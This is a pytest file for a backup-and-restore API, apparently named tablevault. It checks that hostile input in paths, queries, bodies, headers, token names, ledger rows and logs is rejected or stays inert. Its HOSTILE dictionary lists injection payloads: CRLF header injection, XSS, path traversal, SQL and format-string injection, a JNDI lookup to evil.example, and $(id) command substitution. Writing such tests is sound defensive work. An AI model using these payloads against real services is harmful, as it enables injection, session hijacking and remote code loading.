"""Text that would break out of a header, a path, a JSON answer or a log line: it stays a value wherever it comes in."""

import json
import logging
import unicodedata
from urllib.parse import quote

import pytest

from chalicelib.errors import LedgerEntryCorrupt
from chalicelib.ledger import Key, Ledger, Update
from sandbox.resources import ApiToken
from tests.functional.api.gateway import OPERATOR, assert_problem
from tests.functional.api.test_restores import UNKNOWN_ID, a_list_of_restores
from tests.functional.restore.world import LEDGER

HOSTILE = {
    "a header": "x\r\nSet-Cookie: admin=1\r\n\r\n<script>",
    "a log line": 'x\n{"level": "ERROR", "message": "made up"}',
    "NUL": "x\x00y",
    "ANSI": "\x1b[2J\x1b[31mowned\x1b[0m\x9b31m",
    "line separators": "a\u2028b\u2029c\u0085d\x0be\x0cf",
    "the end of a JSON text": '","status":200,"x":"\\',
    "JavaScript": "</script><script>alert(1)</script>",
    "upwards": "../../health",
    "upwards, encoded": "%2e%2e%2f..%5c",
    "encoded twice": "%250d%250aX: 1",
    "right to left": "\u202etxt.exe\u2066",
    "a byte order mark": "\ufeffx",
    "a template": "${jndi:ldap://evil.example/x}{{7*7}}$(id)`id`",
    "a format": "%s%n{0.__class__}{restore_id!r}",
    "a query": "' OR 1=1 -- \" pk = :pk",
    "a key of another row": "x#JOB#RESTORE#../LOCK#orders",
    "zero width": "orders\u200b\u200d",
}


def assert_contained(api, answer):
    """JSON of one piece without raw control characters; headers that nothing of the request is in; a log of lines."""
    json.loads(answer.text)
    assert not [letter for letter in answer.text if unicodedata.category(letter) == "Cc"]
    assert set(answer.headers) <= {"Content-Type", "Allow", "Retry-After"}
    for value in answer.headers.values():
        assert value.isascii()
        assert value.isprintable()
    assert_log_is_lines(api)


def assert_log_is_lines(api):
    for line in api.logged().splitlines():  # also at the line separators of Unicode, which some readers break at
        record = json.loads(line)
        assert "made up" not in str(record.get("message"))
        assert not [letter for letter in line if unicodedata.category(letter) == "Cc"]


@pytest.mark.parametrize("what", HOSTILE)
def test_in_a_path(api, what):
    text = quote(HOSTILE[what], safe="")
    for method, path, code in (
        ("GET", f"/restores/{text}", "restore_not_found"),
        ("POST", f"/restores/{text}/cancel", "restore_not_found"),
        ("GET", f"/backups/{text}", "backup_not_found"),
        ("GET", f"/restores/{UNKNOWN_ID}{text}", "restore_not_found"),
        ("GET", f"/backups/2026-11-21{text}", "backup_not_found"),
    ):
        answer = api.call(method, path)
        assert_problem(answer, 404, code)
        assert_contained(api, answer)


@pytest.mark.parametrize("what", HOSTILE)
def test_in_a_query(api, what):
    text = quote(HOSTILE[what], safe="")
    for query in (f"limit={text}", f"before={text}", f"{text}=1", f"limit=5&limit={text}"):
        answer = api.call("GET", f"/restores?{query}")
        assert_problem(answer, 422, "invalid_request")
        assert_contained(api, answer)


@pytest.mark.parametrize("what", HOSTILE)
def test_in_a_body(api, what):
    text = HOSTILE[what]
    for body in (
        {"backup_date": text},
        {"tables": [text]},
        {"target_tables": {text: "orders", "orders": text}},
        {text: text},
        {"tables": ["orders"], "target_tables": {"orders": text}},
    ):
        answer = api.call("POST", "/restores", body)
        assert_problem(answer, 422, "invalid_request")
        assert_contained(api, answer)
    answer = api.call("POST", "/backups", {"tables": [text]})
    assert_problem(answer, 422, "invalid_request")
    assert_contained(api, answer)


@pytest.mark.parametrize("what", HOSTILE)
def test_in_a_header(api, what):
    text = HOSTILE[what]
    answer = api.call("POST", "/restores", {}, headers={"Content-Type": text})
    assert_problem(answer, 415, "unsupported_media_type")
    assert_contained(api, answer)
    for name in ("Accept", "User-Agent", "X-Amzn-Trace-Id", "Origin", "Cookie", "X-Request-Id"):
        answer = api.call("GET", "/restores", headers={name: text})
        assert answer.status == 200
        assert_contained(api, answer)
    assert api.call("GET", "/restores", token=f"Bearer {text}").status == 403
    assert_log_is_lines(api)


@pytest.mark.parametrize("what", HOSTILE)
def test_in_a_tokens_name(api, what):
    """It would come into logs, ledger rows and receipts. One that cannot be printed makes the parameter invalid."""
    named = ApiToken(HOSTILE[what], "tv_named-0123456789abcdef")
    api.store_tokens(json.dumps([named.stored()]))
    answer = api.call("GET", "/restores", token=named)
    assert answer.status == (200 if HOSTILE[what].isprintable() else 503)
    assert_contained(api, answer)


@pytest.mark.usefixtures("backed_up")
@pytest.mark.parametrize("what", HOSTILE)
def test_in_a_ledger_row_that_somebody_wrote(api, what):
    """Not by the API; but what the log says of a damaged row holds parts of it."""
    (restore_id,) = a_list_of_restores(api, 1)
    job = Key(f"RESTORE#{restore_id}", "JOB")
    Ledger(api.world.dynamodb, LEDGER).write(Update(job, set={"status": HOSTILE[what]}))
    answer = api.call("GET", f"/restores/{restore_id}")
    assert_problem(answer, 500, "ledger_entry_corrupt")
    assert_contained(api, answer)


@pytest.mark.parametrize("what", HOSTILE)
def test_in_anything_that_is_logged(api, what):
    """Whatever comes into a message, a field or an error's text, a record is one line of JSON."""
    error = LedgerEntryCorrupt(HOSTILE[what])
    logging.getLogger("tablevault").error(HOSTILE[what], extra={"table": HOSTILE[what]}, exc_info=error)
    (line,) = api.logged().splitlines()
    assert json.loads(line)["table"] == HOSTILE[what]
    assert not [letter for letter in line if unicodedata.category(letter) == "Cc"]


def test_a_token_in_a_names_place_is_not_repeated(api, backed_up):
    """The fixture looks for it in every answer and log line."""
    token = OPERATOR.token
    bodies = ({"backup_date": token}, {token: 1}, {"tables": [token]}, {"target_tables": {token: token}})
    answers = [api.call("POST", "/restores", body) for body in bodies]
    answers += [api.call("GET", path) for path in (f"/restores/{token}", f"/backups/{token}", f"/backups?{token}=1")]
    assert {answer.status for answer in answers} == {404, 422}
    assert sum("[your token]" in answer.text for answer in answers) >= 4
